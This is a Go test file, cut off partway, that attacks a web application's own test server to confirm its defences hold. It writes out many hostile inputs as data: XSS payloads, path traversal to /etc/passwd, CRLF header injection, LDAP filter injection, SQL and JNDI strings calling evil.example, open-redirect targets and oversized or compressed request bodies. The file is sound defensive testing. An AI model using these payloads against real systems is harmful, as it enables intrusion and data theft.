package ui_test

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/vemvet/vemvet/connectors/ldap"
	"github.com/vemvet/vemvet/connectors/ldap/ldaptest"
	"github.com/vemvet/vemvet/ui"
	"github.com/vemvet/vemvet/ui/auth"
	"github.com/vemvet/vemvet/ui/auth/directory"
)

// owned is what every attack on a browser wants to run.
const owned = `window.owned=1`

// evil breaks out of text, attributes, comments, titles and scripts, if anything lets it.
const evil = `kafka </title></textarea>--><img src=x onerror="` + owned + `"><script>` + owned + `</script>" onmouseover="` + owned + `" x='{{.}}`

// hostile are records whose every field is hostile.
func hostile() string {
	link := "javascript:" + owned
	var out strings.Builder
	add := func(record map[string]any) {
		text, err := json.Marshal(record)
		if err != nil {
			panic(err)
		}
		out.Write(append(text, '\n'))
	}
	add(map[string]any{"type": "unit", "id": "u" + evil, "name": "Unit " + evil, "head": "evil", "url": link})
	add(map[string]any{"type": "group", "id": "g" + evil, "name": "Group " + evil, "description": evil, "visibility": "open", "members": []string{"evil", "employee", "sales"}, "url": link})
	add(map[string]any{"type": "group", "id": "board", "name": "Board", "visibility": "secret", "members": []string{"leadership"}})
	for _, id := range []string{"evil", "p" + evil} {
		add(map[string]any{
			"type": "person", "id": id, "name": "Eve " + evil, "emails": []string{evil + "@firm.example"}, "usernames": []string{evil}, "employee_number": id,
			"title": evil, "unit": "u" + evil, "manager": "administrator", "location": evil, "languages": []string{evil, "sv"}, "bio": evil, "phone": evil,
			"photo_url": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5vd25lZD0xIi8+", "url": link, "clearances": []string{evil}, "wishes": []string{evil},
			"skills": []map[string]any{{"name": "Kafka " + evil, "level": 5, "years": 3, "by": "peer"}},
		})
	}
	for i, format := range []string{"text", "markdown", "html"} {
		add(map[string]any{
			"type": "post", "id": fmt.Sprintf("%d%s", i, evil), "author": "evil", "coauthors": []string{"p" + evil}, "group": "g" + evil, "title": "Kafka " + evil,
			"body":   evil + "\n\n[x](" + link + ") <" + link + "> ![x](http://evil.example/x.png)\n<a href=\"" + link + "\">x</a><iframe src=\"" + link + "\"></iframe><svg onload=\"" + owned + "\"></svg><form action=//evil.example><input name=q></form>\n```\n" + evil,
			"format": format, "lang": "en", "time": "2026-03-01T09:00:00Z", "tags": []string{evil}, "url": link,
			"mentions": []map[string]any{{"person": "p" + evil, "role": evil}}, "reactions": []map[string]any{{"person": "evil", "kind": evil}},
		})
	}
	add(map[string]any{"type": "post", "id": "answer", "author": "p" + evil, "parent": "0" + evil, "body": "Kafka " + evil, "lang": "en", "time": "2026-03-02T09:00:00Z", "accepted": true})
	add(map[string]any{"type": "post", "id": "secret", "author": "leadership", "group": "board", "title": "Merger", "body": "We sell the lighthouse.", "lang": "en", "time": "2026-03-02T09:00:00Z"})
	add(map[string]any{
		"type": "experience", "id": "cv", "person": "evil", "kind": "project", "project": evil, "title": evil, "customer": evil, "role": evil,
		"description": "Kafka " + evil, "skills": []string{"Kafka " + evil}, "from": "2021-01-01T00:00:00Z", "url": link,
	})
	return out.String()
}

// pages are the addresses of every page that the table of routes knows, with what is hostile in them.
func pages() []string {
	q := url.QueryEscape(evil)
	out := []string{
		"/?q=kafka", "/?q=kafka&unit=" + url.QueryEscape("hr:u"+evil) + "&place=" + q + "&lang=" + q + "&since=" + q + "&as_words=" + q,
		"/people/" + url.PathEscape("hr:evil"), "/people/" + url.PathEscape("hr:p"+evil), "/people/" + q,
		"/posts/" + url.PathEscape("hr:0"+evil), "/posts/" + url.PathEscape("hr:1"+evil), "/posts/" + url.PathEscape("hr:2"+evil), "/posts/hr:answer",
		"/why?q=kafka&a=hr:evil&b=" + url.QueryEscape("hr:p"+evil), "/why?q=" + q + "&a=" + q + "&b=" + q,
		"/team?do=build&skill=Kafka&seats=2&with=hr:evil&place=" + q, "/team?do=build&skill=" + q + "&seats=" + q + "&budget=" + q, "/team?do=find&skill=Kafka&name=Eve",
		"/ask?q=who+knows+kafka", "/sign-in?next=" + url.QueryEscape("/?q="+evil) + "&refused=" + q + "&wait=" + q, "/" + q,
	}
	for _, gate := range ui.Gates() {
		if gate.Method == http.MethodGet && !strings.HasPrefix(gate.Pattern, "/api/") && !strings.Contains(gate.Pattern, ":") && !strings.HasPrefix(gate.Pattern, "/sign-in/") {
			out = append(out, strings.Replace(gate.Pattern, "*id", "hr:evil", 1)+"?q="+q+"&before="+q+"&page="+q+"&fairness="+q)
		}
	}
	return out
}

// scriptsIn lists what of a page could run or fetch something, in the eyes of a browser.
func scriptsIn(page string) []string {
	var out []string
	tokens := html.NewTokenizer(strings.NewReader(page))
	for kind := tokens.Next(); kind != html.ErrorToken; kind = tokens.Next() {
		tag := tokens.Token()
		if kind != html.StartTagToken && kind != html.SelfClosingTagToken {
			continue
		}
		source := ""
		for _, a := range tag.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			if a.Key == "src" {
				source = value
			}
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc" || strings.HasPrefix(value, "javascript:") || strings.HasPrefix(value, "data:") {
				out = append(out, tag.String())
			}
		}
		switch tag.Data {
		case "iframe", "object", "embed", "base", "style", "svg:script":
			out = append(out, tag.String())
		case "script", "img":
			if !strings.HasPrefix(source, "/assets/") && !strings.HasPrefix(source, "/photos/") {
				out = append(out, tag.String())
			}
		case "form":
			for _, a := range tag.Attr {
				if a.Key == "action" && (!strings.HasPrefix(a.Val, "/") || strings.HasPrefix(a.Val, "//")) {
					out = append(out, tag.String())
				}
			}
		}
	}
	return out
}

// attacks are what was tried on a whole Vemvet over TCP, each with what must come of it. What takes a browser
// is in attacks_browser_test.go.
var attacks = []struct {
	name string
	try  func(h house) (happened string)
}{
	{"a record whose every field is markup, on every page, in every role", everyPageIsText},
	{"a page in a frame, a page that loads from elsewhere, an answer taken for another kind", everyAnswerIsGuarded},
	{"a private page kept by a cache on the way", nothingPrivateIsCached},
	{"a form of another site that changes something", otherSitesChangeNothing},
	{"a page of another site that reads an answer", otherSitesReadNothing},
	{"a session that was put into the browser before its owner signed in", plantedSessions},
	{"a session after its owner signed out, here or everywhere", endedSessions},
	{"a link to sign-in that leads elsewhere afterwards", openRedirects},
	{"a path that climbs out of its folder", climbingPaths},
	{"a line break that adds a header to the answer", addedHeaders},
	{"a header Host of another name", otherHosts},
	{"a header that says who asks or from where", toldHeaders},
	{"a user name that changes the question to the LDAP directory", ldapNames},
	{"a question in the language of some engine or database", injectedQueries},
	{"a question about what stands in a group of others", closedGroups},
	{"the id of somebody else's token", othersTokens},
	{"a token in an address", tokensInAddresses},
	{"a route for administrators, and methods that no route has", forbiddenRoutes},
	{"a body of two megabytes, with its length and in chunks", largeBodies},
	{"a body that is small until it is unpacked", packedBodies},
	{"JSON nested ten thousand deep", deepJSON},
	{"a header of sixty-four kilobytes, and an address of as much", largeHeaders},
	{"two lengths, or a length and chunks, so that two servers read two requests", smuggledRequests},
	{"a header that comes a byte at a time", slowHeaders},
}

func TestAttacks(t *testing.T) {
	t.Setenv("VEMVET_TEST_LDAP_PASSWORD", ldaptest.Password)
	h := openHouse(t, hostile(), func(o *ui.Options) { o.Limits = ui.Limits{Questions: 100_000, Attempts: 100_000} }, ldapWay(t))
	for _, attack := range attacks {
		t.Run(attack.name, func(t *testing.T) {
			h := h
			h.T = t
			t.Log(attack.try(h))
		})
	}
	if log := h.log.String(); strings.Contains(log, "panic") || strings.Contains(log, "status=500") {
		t.Errorf("something broke:\n%s", log)
	}
}

var roles = []string{"", "employee", "sales", "hr", "leadership", "administrator"}

func everyPageIsText(h house) string {
	shown := 0
	for _, role := range roles {
		for _, address := range pages() {
			answer, page := h.ask("GET", address, role, nil, nil)
			if answer.StatusCode >= 500 {
				h.Errorf("%s as %q: %s", address, role, answer.Status)
			}
			if found := scriptsIn(page); len(found) > 0 {
				h.Errorf("%s as %q has %q", address, role, found)
			}
			if strings.Contains(page, "onerror") {
				shown++
			}
		}
	}
	if shown < 60 {
		h.Errorf("the hostile text stands on %d pages: the test looks at nothing", shown)
	}
	return fmt.Sprintf("shown as text on %d pages, markup on none", shown)
}

func everyAnswerIsGuarded(h house) string {
	n := 0
	for _, role := range roles {
		for _, address := range append(pages(), "/api/v1/people?q=kafka", "/api/v1/people?q=", "/metrics", "/healthz", "/assets/none.css") {
			answer, _ := h.ask("GET", address, role, nil, nil)
			for header, want := range map[string]string{
				"Content-Security-Policy": "default-src 'none'", "X-Content-Type-Options": "nosniff", "Referrer-Policy": "same-origin",
				"Cross-Origin-Opener-Policy": "same-origin", "Cross-Origin-Resource-Policy": "same-origin",
			} {
				if !strings.HasPrefix(answer.Header.Get(header), want) {
					h.Errorf("%s as %q: %s is %q", address, role, header, answer.Header.Get(header))
				}
			}
			policy := answer.Header.Get("Content-Security-Policy")
			for _, wrong := range []string{"unsafe", "*", "http:", "https:", "data:"} {
				if strings.Contains(policy, wrong) {
					h.Errorf("%s: the policy allows %s", address, wrong)
				}
			}
			if html := strings.HasPrefix(answer.Header.Get("Content-Type"), "text/html"); html && !strings.Contains(policy, "frame-ancestors 'none'") {
				h.Errorf("%s may be framed", address)
			}
			n++
		}
	}
	return fmt.Sprintf("%d answers, each forbids frames, scripts from elsewhere and sniffing", n)
}

func nothingPrivateIsCached(h house) string {
	n := 0
	for _, role := range roles {
		for _, address := range append(pages(), "/api/v1/people?q=kafka", "/api/v1/posts?q=kafka", "/api/v1/suggest?q=ka", "/api/v1/people/hr:evil") {
			answer, _ := h.ask("GET", address, role, nil, nil)
			if strings.HasPrefix(address, "/healthz") || strings.HasPrefix(address, "/readyz") || strings.HasPrefix(address, "/metrics") {
				continue
			}
			got := answer.Header.Get("Cache-Control")
			if !strings.Contains(got, "no-store") && !strings.HasPrefix(got, "private") {
				h.Errorf("%s as %q: Cache-Control is %q", address, role, got)
			}
			n++
		}
	}
	return fmt.Sprintf("%d answers, each private or not to be stored", n)
}

func otherSitesChangeNothing(h house) string {
	n := 0
	for _, gate := range ui.Gates() {
		if gate.Method == http.MethodGet {
			continue
		}
		for _, header := range []http.Header{
			{"Sec-Fetch-Site": {"cross-site"}}, {"Sec-Fetch-Site": {"same-site"}}, {"Origin": {"https://evil.example"}}, {"Origin": {"null"}},
			{"Origin": {h.url + ".evil.example"}},
		} {
			for _, role := range roles {
				answer, _ := h.ask(gate.Method, gate.Pattern, role, url.Values{"name": {"x"}, "scope": {"read"}, "days": {"1"}, "person": {"hr:sales"}}, header)
				if answer.StatusCode != http.StatusForbidden || len(answer.Cookies()) > 0 {
					h.Errorf("%s %s as %q with %v: %s", gate.Method, gate.Pattern, role, header, answer.Status)
				}
				n++
			}
		}
	}
	if tokens, err := h.desk.Of("hr:employee"); err != nil || len(tokens) > 0 {
		h.Errorf("a token was made: %v, %v", tokens, err)
	}
	return fmt.Sprintf("%d posts refused with 403", n)
}

func otherSitesReadNothing(h house) string {
	for _, method := range []string{"GET", "OPTIONS"} {
		for _, address := range []string{"/", "/api/v1/people?q=kafka"} {
			answer, _ := h.ask(method, address, "employee", nil, http.Header{"Origin": {"https://evil.example"}, "Access-Control-Request-Method": {"GET"}})
			for name := range answer.Header {
				if strings.HasPrefix(name, "Access-Control-") {
					h.Errorf("%s %s: %s: %s", method, address, name, answer.Header.Get(name))
				}
			}
		}
	}
	return "no answer allows another origin to read it"
}

func plantedSessions(h house) string {
	for _, planted := range []string{"planted-by-somebody-else-1234567890abcdef", h.cookies["leadership"].Value, strings.Repeat("a", 5000), "../../x"} {
		answer, _ := h.ask("POST", "/sign-in/demo", "", url.Values{"person": {"hr:employee"}}, http.Header{"Cookie": {"vemvet-session=" + planted}})
		if len(answer.Cookies()) != 1 || answer.Cookies()[0].Value == planted {
			h.Errorf("signing in keeps the session %.20q", planted)
			continue
		}
		if again, _ := h.ask("GET", "/about", "", nil, http.Header{"Cookie": {"vemvet-session=" + planted}}); again.StatusCode != http.StatusSeeOther {
			h.Errorf("the planted session %.20q is good: %s", planted, again.Status)
		}
		cookie := answer.Cookies()[0]
		if !cookie.HttpOnly || cookie.SameSite != http.SameSiteLaxMode || cookie.Domain != "" || cookie.Path != "/" {
			h.Errorf("the cookie is %v", cookie)
		}
	}
	answer, _ := h.ask("POST", "/sign-in/demo", "", url.Values{"person": {"hr:leadership"}}, nil)
	h.cookies["leadership"] = answer.Cookies()[0]
	return "every sign-in begins a session under a new name; what was there before is over"
}

func endedSessions(h house) string {
	sign := func() *http.Cookie {
		answer, _ := h.ask("POST", "/sign-in/demo", "", url.Values{"person": {"hr:employee"}}, nil)
		return answer.Cookies()[0]
	}
	first, second, third := sign(), sign(), sign()
	as := func(c *http.Cookie, method, path string) int {
		answer, _ := h.ask(method, path, "", nil, http.Header{"Cookie": {c.Name + "=" + c.Value}})
		return answer.StatusCode
	}
	as(first, "POST", "/sign-out")
	if as(first, "GET", "/about") != http.StatusSeeOther || as(second, "GET", "/about") != http.StatusOK {
		h.Error("signing out ends another session, or not its own")
	}
	as(second, "POST", "/sign-out/everywhere")
	if as(second, "GET", "/about") != http.StatusSeeOther || as(third, "GET", "/about") != http.StatusSeeOther {
		h.Error("signing out everywhere leaves a session")
	}
	h.cookies["employee"] = sign()
	return "the session is no good any more"
}

var elsewhere = []string{
	"https://evil.example", "//evil.example", `/\evil.example`, `\\evil.example`, "http:evil.example", "///evil.example", "/\t/evil.example",
	"/%09/evil.example\r\nX-Added: 1", "javascript:" + owned, "data:text/html,x", " //evil.example", "https:evil.example",
	"@evil.example", ".evil.example", ":80@evil.example",
}

func openRedirects(h house) string {
	n := 0
	check := func(what string, answer *http.Response) {
		n++
		to := answer.Header.Get("Location")
		at, err := url.Parse(to)
		if err != nil || at.Host != "" || at.Scheme != "" || !strings.HasPrefix(to, "/") || strings.HasPrefix(to, "//") || strings.HasPrefix(to, `/\`) || answer.Header.Get("X-Added") != "" {
			h.Errorf("%s leads to %q", what, to)
		}
	}
	for _, next := range elsewhere {
		answer, _ := h.ask("POST", "/sign-in/demo", "", url.Values{"person": {"hr:employee"}, "next": {next}}, nil)
		check("sign-in with next "+next, answer)
		answer, _ = h.ask("POST", "/sign-in/demo", "", url.Values{"person": {"hr:nobody"}, "next": {next}}, nil)
		check("refused sign-in with next "+next, answer)
		answer, _ = h.ask("GET", "/language?set=sv&back="+url.QueryEscape(next), "", nil, nil)
		check("language with back "+next, answer)
		if _, page := h.ask("GET", "/sign-in?next="+url.QueryEscape(next), "", nil, nil); strings.Contains(page, `value="`+html.EscapeString(next)) {
			h.Errorf("the sign-in page would lead to %q", next)
		}
	}
	for _, line := range []string{"GET //evil.example/%2e%2e HTTP/1.1", "GET //evil.example HTTP/1.1", "GET http://evil.example/ HTTP/1.1"} {
		answer := h.raw(line + "\r\nHost: " + h.host() + "\r\nConnection: close\r\n\r\n")
		if strings.Contains(answer, "Location: //") || strings.Contains(answer, "Location: http") {
			h.Errorf("%s leads elsewhere:\n%s", line, answer)
		}
		n++
	}
	return fmt.Sprintf("%d answers lead to this site or nowhere", n)
}

// host is the part of the address between the slashes.
func (h house) host() string { return strings.TrimPrefix(h.url, "http://") }

// raw sends bytes as they are and gives what comes back until the connection ends, 20 s at most.
func (h house) raw(request string) string {
	h.Helper()
	connection, err := net.Dial("tcp", h.host())
	if err != nil {
		h.Fatal(err)
	}
	defer connection.Close()
	if err := connection.SetDeadline(time.Now().Add(20 * time.Second)); err != nil {
		h.Fatal(err)
	}
	if _, err := connection.Write([]byte(request)); err != nil {
		return "" // it hung up before it read all
	}
	var answer bytes.Buffer
	_, _ = answer.ReadFrom(connection) // a connection that is reset has answered as well
	return answer.String()
}

func climbingPaths(h house) string {
	n := 0
	for _, folder := range []string{"/assets/", "/photos/", "/people/", "/posts/", "/api/v1/people/", "/api/v1/posts/", "/"} {
		for _, climb := range []string{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", `..\..\etc\passwd`, "..%5c..%5cetc%5cpasswd", "....//....//etc/passwd", "%00/etc/passwd", "/etc/passwd", "..%c0%af..%c0%afetc/passwd"} {
			answer := h.raw("GET " + folder + climb + " HTTP/1.1\r\nHost: " + h.host() + "\r\nCookie: vemvet-session=" + h.cookies["administrator"].Value + "\r\nConnection: close\r\n\r\n")
			if strings.Contains(answer, "root:") || strings.HasPrefix(answer, "HTTP/1.1 200") || strings.HasPrefix(answer, "HTTP/1.1 5") {
				h.Errorf("%s%s:\n%.300s", folder, climb, answer)
			}
			n++
		}
	}
	return fmt.Sprintf("%d paths lead to nothing", n)
}

func addedHeaders(h house) string {
	n := 0
	for _, address := range []string{
		"/language?set=sv%0d%0aX-Added:%201&back=/%0d%0aX-Added:%201", "/sign-in?next=/%0d%0aX-Added:%201", "/?q=%0d%0aX-Added:%201", "/people/%0d%0aX-Added:%201",
		"/%0d%0aX-Added:%201", "/api/v1/people?q=x%0d%0aX-Added:%201",
	} {
		for _, role := range roles {
			answer, _ := h.ask("GET", address, role, nil, http.Header{"X-Request-Id": {"abcdefgh X-Added: 1"}})
			if answer.Header.Get("X-Added") != "" || strings.Contains(answer.Header.Get("X-Request-Id"), " ") {
				h.Errorf("%s: %v", address, answer.Header)
			}
			n++
		}
	}
	answer := h.raw("GET /healthz HTTP/1.1\r\nHost: " + h.host() + "\r\nX-Request-Id: abcdefgh\rX-Added: 1\r\nConnection: close\r\n\r\n")
	if strings.Contains(answer, "\nX-Added") || strings.Contains(answer, "\rX-Added") {
		h.Error("a bare return adds a header")
	}
	return fmt.Sprintf("%d answers have no header but their own", n+1)
}

func otherHosts(h house) string {
	for _, host := range []string{"evil.example", "127.0.0.1.evil.example", "localhost.evil.example:80", "10.0.0.1", "[::2]", "vemvet.firm.example"} {
		answer, page := h.ask("GET", "/", "employee", nil, http.Header{"Host": {host}})
		if answer.StatusCode != http.StatusMisdirectedRequest || strings.Contains(page, host) {
			h.Errorf("as %s: %s", host, answer.Status)
		}
	}
	answer, page := h.ask("GET", "/sign-in?next=/about", "", nil, http.Header{"X-Forwarded-Host": {"evil.example"}, "X-Original-Url": {"/admin/audit"}, "X-Rewrite-Url": {"/admin/audit"}})
	if answer.StatusCode != http.StatusOK || strings.Contains(page, "evil.example") || strings.Contains(page, "Looking for") {
		h.Errorf("a forwarded host counts: %s", answer.Status)
	}
	return "421, and no address is made of it"
}

func toldHeaders(h house) string {
	for _, header := range []http.Header{
		{"X-Forwarded-User": {"administrator"}}, {"X-Remote-User": {"administrator"}}, {"Remote-User": {"administrator"}}, {"X-Forwarded-Email": {"a@firm.example"}},
		{"Authorization": {"Basic YWRtaW46YWRtaW4="}}, {"Authorization": {"Bearer "}}, {"Authorization": {"Bearer vvt_" + strings.Repeat("a", 40)}}, {"X-Forwarded-For": {"127.0.0.1"}, "X-Http-Method-Override": {"GET"}},
	} {
		answer, _ := h.ask("GET", "/api/v1/people?q=kafka", "", nil, header)
		if answer.StatusCode != http.StatusUnauthorized {
			h.Errorf("with %v: %s", header, answer.Status)
		}
	}
	return "401"
}

func ldapWay(t *testing.T) auth.Way {
	t.Helper()
	slapd := ldaptest.Start(t, ldaptest.Options{LDIF: `dn: uid=anna,dc=firm,dc=example
objectClass: inetOrgPerson
uid: anna
cn: Anna Berg
sn: Berg
userPassword: annas hemmelighet

`})
	way, err := directory.New(directory.Config{Source: "staff", Names: directory.Names()}, ldap.Config{
		URL: ldap.Names{slapd.TLSURL}, CAFile: slapd.CAFile, Bases: ldap.Names{ldaptest.Suffix}, BindDN: ldaptest.Reader, PasswordEnv: "VEMVET_TEST_LDAP_PASSWORD",
	})
	if err != nil {
		t.Fatal(err)
	}
	return way
}

func ldapNames(h house) string {
	try := func(name, password string) string {
		answer, _ := h.ask("POST", "/sign-in/directory", "", url.Values{"username": {name}, "password": {password}}, nil)
		if len(answer.Cookies()) > 0 {
			h.Errorf("%q signs in", name)
		}
		at, err := url.Parse(answer.Header.Get("Location"))
		if err != nil {
			h.Fatal(err)
		}
		return at.Query().Get("refused")
	}
	// She is in the directory, and no source of Vemvet's has brought her.
	if got := try("anna", "annas hemmelighet"); got != auth.Unknown {
		h.Fatalf("the right name and password are refused as %q", got)
	}
	names := []string{
		"*", "a*", "an?a", "anna)(uid=*", "*)(uid=anna", "anna))(|(uid=*", "*)(objectClass=*", `\61nna`, `anna\00`, "anna\x00", "anna,dc=firm", "uid=anna,dc=firm,dc=example",
		"anna)(!(uid=x))", "(anna)", "&", "|(uid=anna)", "anna#", `anna\`, "anna+uid=x",
	}
	for _, name := range names {
		if got := try(name, "annas hemmelighet"); got != auth.WrongPassword && got != auth.Unavailable {
			h.Errorf("%q is refused as %q", name, got)
		}
	}
	for _, password := range []string{"", " ", "*", "\x00", "annas hemmelighet\x00x"} { // an empty one is an anonymous bind
		if got := try("anna", password); got != auth.WrongPassword && got != auth.Often {
			h.Errorf("the password %q is refused as %q", password, got)
		}
	}
	return fmt.Sprintf("%d names and 5 passwords, each refused as wrong", len(names))
}

var injected = []string{
	`*`, `*:*`, `+_all:*`, `body:kafka`, `group:"board"`, `audience:everyone`, `kafka~2^10`, `/.*/`, `/(a+)+$/`, `kafka AND (secret OR *)`, `"`, `"""`, `\`, `\\"`, `'; DROP TABLE people; --`,
	`{"$ne":null}`, `${jndi:ldap://evil.example/x}`, `{{.}}`, `%s%n%x`, `$(id)`, "`id`", "\x00", "\u202ekafka", "\ufeff", strings.Repeat("(", 500), strings.Repeat(`"a" `, 200), strings.Repeat("-", 900),
	strings.Repeat("a ", 499), "since:9999999-01-01", "unit:" + strings.Repeat("x", 900), "source:*", "group:*", "<!--#exec cmd=id-->", "=HYPERLINK(\"http://evil.example\")",
}

func injectedQueries(h house) string {
	n := 0
	for _, q := range injected {
		for _, path := range []string{"/", "/posts", "/ask", "/topics", "/api/v1/people", "/api/v1/posts", "/api/v1/ask", "/api/v1/suggest", "/api/v1/related", "/api/v1/topics"} {
			answer, text := h.ask("GET", path+"?q="+url.QueryEscape(q), "employee", nil, nil)
			if answer.StatusCode != http.StatusOK && answer.StatusCode != http.StatusBadRequest {
				h.Errorf("%s with %.40q: %s", path, q, answer.Status)
			}
			if strings.Contains(text, "lighthouse") || strings.Contains(text, "Merger") {
				h.Errorf("%s with %.40q tells a secret", path, q)
			}
			n++
		}
	}
	return fmt.Sprintf("%d questions are words, or 400", n)
}

func closedGroups(h house) string {
	for _, path := range []string{"/posts/hr:secret", "/api/v1/posts/hr:secret"} {
		there, text := h.ask("GET", path, "employee", nil, http.Header{"X-Request-Id": {"request-0001"}})
		absent, none := h.ask("GET", strings.Replace(path, "secret", "absent", 1), "employee", nil, http.Header{"X-Request-Id": {"request-0001"}})
		if there.StatusCode != http.StatusNotFound || absent.StatusCode != http.StatusNotFound || strings.ReplaceAll(text, "secret", "absent") != none {
			h.Errorf("%s: what may not be read differs from what is not there: %s, %s", path, there.Status, absent.Status)
		}
	}
	for _, q := range []string{"lighthouse", "merger", "group:board lighthouse", `"sell the lighthouse"`, "lighthous"} {
		for _, role := range []string{"employee", "sales", "hr", "administrator"} {
			for _, path := range []string{"/api/v1/people", "/api/v1/posts", "/api/v1/ask", "/api/v1/suggest", "/api/v1/related"} {
				if _, text := h.ask("GET", path+"?q="+url.QueryEscape(q), role, nil, nil); strings.Contains(text, "Merger") || strings.Contains(text, "Board") || strings.Contains(text, "Lea Der") {
					h.Errorf("%s?q=%s as %s tells of it", path, q, role)
				}
			}
		}
	}
	if _, text := h.ask("GET", "/api/v1/posts?q=lighthouse", "leadership", nil, nil); !strings.Contains(text, "Merger") {
		h.Error("its own members do not find it: the test looks for nothing")
	}
	return "answered as if it did not exist, to administrators too"
}

func othersTokens(h house) string {
	text, made, err := h.desk.Create("hr:leadership", "theirs", []auth.Scope{auth.ScopeRead}, time.Hour)
	if err != nil {
		h.Fatal(err)
	}
	h.ask("POST", "/tokens/revoke", "employee", url.Values{"id": {made.ID}}, nil)
	answer, _ := h.ask("GET", "/api/v1/people?q=kafka", "", nil, http.Header{"Authorization": {"Bearer " + text}})
	if answer.StatusCode != http.StatusOK {
		h.Errorf("somebody else revoked it: %s", answer.Status)
	}
	if _, page := h.ask("GET", "/tokens", "employee", nil, nil); strings.Contains(page, made.ID) || strings.Contains(page, "theirs") {
		h.Error("it is listed for somebody else")
	}
	for _, path := range []string{"/", "/tokens", "/admin/audit", "/sign-in/demo"} {
		if answer, _ := h.ask("GET", path, "", nil, http.Header{"Authorization": {"Bearer " + text}}); answer.StatusCode == http.StatusOK {
			h.Errorf("a token to read opens %s", path)
		}
	}
	if answer, _ := h.ask("POST", "/tokens", "", url.Values{"name": {"more"}, "scope": {"sync"}, "days": {"9"}}, http.Header{"Authorization": {"Bearer " + text}}); answer.StatusCode < 400 {
		h.Errorf("a token makes another: %s", answer.Status)
	}
	return "it stays, is not shown, and opens nothing but what it is for"
}

func tokensInAddresses(h house) string {
	text, _, err := h.desk.Create("hr:employee", "mine", []auth.Scope{auth.ScopeRead}, time.Hour)
	if err != nil {
		h.Fatal(err)
	}
	for _, name := range []string{"token", "access_token", "authorization", "api_key"} {
		if answer, _ := h.ask("GET", "/api/v1/people?q=kafka&"+name+"="+text, "", nil, nil); answer.StatusCode != http.StatusUnauthorized {
			h.Errorf("%s: %s", name, answer.Status)
		}
	}
	if strings.Contains(h.log.String(), text) {
		h.Error("the log has it")
	}
	return "401, and the log does not have it"
}

func forbiddenRoutes(h house) string {
	for _, role := range []string{"employee", "sales", "hr", "leadership"} {
		for _, path := range []string{"/admin/audit", "/admin/audit/", "//admin/audit", "/admin//audit", "/Admin/Audit", "/./admin/audit", "/%61dmin/audit", "/admin/audit;x"} {
			if answer, text := h.ask("GET", path, role, nil, nil); answer.StatusCode < 400 && answer.StatusCode != http.StatusSeeOther || strings.Contains(text, "Whom it showed") {
				h.Errorf("%s as %s: %s", path, role, answer.Status)
			}
		}
	}
	for _, method := range []string{"TRACE", "CONNECT", "PUT", "DELETE", "PATCH", "PROPFIND", "GET /admin"} {
		answer := h.raw(method + " /about HTTP/1.1\r\nHost: " + h.host() + "\r\nConnection: close\r\n\r\n")
		if !strings.HasPrefix(answer, "HTTP/1.1 4") {
			h.Errorf("%s: %.60q", method, answer)
		}
	}
	return "403, 404 or 405"
}

func largeBodies(h house) string {
	large := url.Values{"skill": {strings.Repeat("k", 2<<20)}, "do": {"build"}, "seats": {"1"}}
	if answer, _ := h.ask("POST", "/team", "sales", large, nil); answer.StatusCode != http.StatusRequestEntityTooLarge {
		h.Errorf("a form: %s", answer.Status)
	}
	token, _, err := h.desk.Create("hr:sales", "large", []auth.Scope{auth.ScopeTeams}, time.Hour)
	if err != nil {
		h.Fatal(err)
	}
	head := "POST /api/v1/teams HTTP/1.1\r\nHost: " + h.host() + "\r\nAuthorization: Bearer " + token + "\r\nContent-Type: application/json\r\nConnection: close\r\n"
	body := `{"requirements":[{"skill":"` + strings.Repeat("k", 2<<20) + `"}],"seats":1}`
	for _, answer := range []string{
		h.raw(head + fmt.Sprintf("Content-Length: %d\r\n\r\n%s", len(body), body)),
		h.raw(head + fmt.Sprintf("Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", len(body), body)),
	} {
		if answer != "" && !strings.HasPrefix(answer, "HTTP/1.1 413") {
			h.Errorf("JSON: %.60q", answer)
		}
	}
	if answer, _ := h.ask("POST", "/sign-in/directory", "", url.Values{"username": {strings.Repeat("u", 2<<20)}, "password": {"x"}}, nil); len(answer.Cookies()) > 0 || answer.StatusCode == http.StatusInternalServerError {
		h.Errorf("a sign-in: %s", answer.Status)
	}
	return "413, or the connection ends"
}

func packedBodies(h house) string {
	var packed bytes.Buffer
	writer := gzip.NewWriter(&packed)
	if _, err := writer.Write(append([]byte(`{"seats":1,"requirements":[{"skill":"`), bytes.Repeat([]byte("k"), 50<<20)...)); err != nil {
		h.Fatal(err)
	}
	if err := writer.Close(); err != nil {
		h.Fatal(err)
	}
	token, _, err := h.desk.Create("hr:sales", "packed", []auth.Scope{auth.ScopeTeams}, time.Hour)
	if err != nil {
		h.Fatal(err)
	}
	answer := h.raw("POST /api/v1/teams HTTP/1.1\r\nHost: " + h.host() + "\r\nAuthorization: Bearer " + token + fmt.Sprintf("\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", packed.Len(), packed.String()))
	if !strings.HasPrefix(answer, "HTTP/1.1 400") {
		h.Errorf("%.100q", answer)
	}
	return "never unpacked: 400"
}

func deepJSON(h house) string {
	token, _, err := h.desk.Create("hr:sales", "deep", []auth.Scope{auth.ScopeTeams}, time.Hour)
	if err != nil {
		h.Fatal(err)
	}
	body := strings.Repeat("[", 20_000)
	answer := h.raw("POST /api/v1/teams HTTP/1.1\r\nHost: " + h.host() + "\r\nAuthorization: Bearer " + token + fmt.Sprintf("\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", len(body), body))
	if !strings.HasPrefix(answer, "HTTP/1.1 400") {
		h.Errorf("%.100q", answer)
	}
	return "400"
}

func largeHeaders(h house) string {
	for name, request := range map[string]string{
		"a header":     "GET / HTTP/1.1\r\nHost: " + h.host() + "\r\nX-Large: " + strings.Repeat("x", 64<<10) + "\r\nConnection: close\r\n\r\n",
		"many headers": "GET / HTTP/1.1\r\nHost: " + h.host() + "\r\n" + strings.Repeat("X-Many: 1234567890\r\n", 4000) + "Connection: close\r\n\r\n",
		"a cookie":     "GET / HTTP/1.1\r\nHost: " + h.host() + "\r\nCookie: vemvet-session=" + strings.Repeat("x", 64<<10) + "\r\nConnection: close\r\n\r\n",
